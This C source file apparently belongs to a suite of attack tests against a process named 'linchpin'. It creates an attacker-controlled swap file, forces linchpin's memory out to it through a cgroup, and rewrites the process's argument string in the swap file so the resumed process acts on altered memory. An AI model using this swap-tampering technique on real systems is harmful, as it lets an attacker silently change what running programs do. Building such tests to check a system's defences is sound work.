// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Gives the kernel a file of the attacker's to swap to, has it put linchpin's memory there, as soon as that runs, and changes it in the file.
 * Success: linchpin, whose executable nobody changed, does what its changed memory says: it reads another command than it was given.
 */
#include "agent.h"
#include "loop.h"
#include <signal.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/wait.h>

#define GROUP "/sys/fs/cgroup/swapped"
#define SPACE SCRATCH "/space"
#define SIZE (32 << 20)
#define PAGE 4096

static const char arguments[] = LINCHPIN "\0status", other[] = LINCHPIN "\0stutus";

static void make_space(void)
{
	static char page[PAGE];
	const uint32_t header[] = { 1, SIZE / PAGE - 1, 0 };
	int file = must("open", open(SPACE, O_CREAT | O_RDWR, 0600));

	must("ftruncate", ftruncate(file, SIZE));
	memcpy(page + 1024, header, sizeof(header));
	memcpy(page + PAGE - 10, "SWAPSPACE2", 10);
	must("write", pwrite(file, page, PAGE, 0));
	close(file);
}

/* More than once: what is written out stays in memory until it is looked at again. */
static void put_out(void)
{
	for (int i = 0; i < 5; i++) {
		write_text(GROUP "/memory.reclaim", "67108864");
		usleep(100000);
	}
}

/* True when linchpin's arguments were there. */
static bool change_space(void)
{
	static char page[PAGE];
	int file = open(SPACE, O_RDWR);
	bool is_changed = false;

	for (off_t at = PAGE; at < SIZE && pread(file, page, PAGE, at) == PAGE; at += PAGE) {
		char *found = memmem(page, PAGE, arguments, sizeof(arguments));

		if (found)
			is_changed |= pwrite(file, other, sizeof(other), at + (found - page)) == sizeof(other);
	}
	close(file);
	return is_changed;
}

static void undo(void)
{
	end_loops(swapoff);
	rmdir(GROUP);
}

static void run(void)
{
	const char *device;
	pid_t linchpin;
	int status;

	make_space();
	device = make_loop(SPACE);
	must("swapon", swapon(device, 0));
	must("cgroup.subtree_control", write_text("/sys/fs/cgroup/cgroup.subtree_control", "+memory"));
	must("make a cgroup", mkdir(GROUP, 0755));
	must("enter the cgroup", write_text(GROUP "/cgroup.procs", "0"));
	linchpin = start_linchpin();
	must("leave the cgroup", write_text("/sys/fs/cgroup/cgroup.procs", "0"));
	for (int tries = 0; tries == 0 || !change_space(); tries++) {
		if (tries == 10)
			impossible("linchpin's memory isn't swapped");
		put_out();
	}
	kill(linchpin, SIGCONT);
	waitpid(linchpin, &status, 0);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 2)
		got("linchpin's memory, changed");
}

ATTACK("changes linchpin's memory in the swap space", .run = run, .undo = undo, .limit = "swapped to");
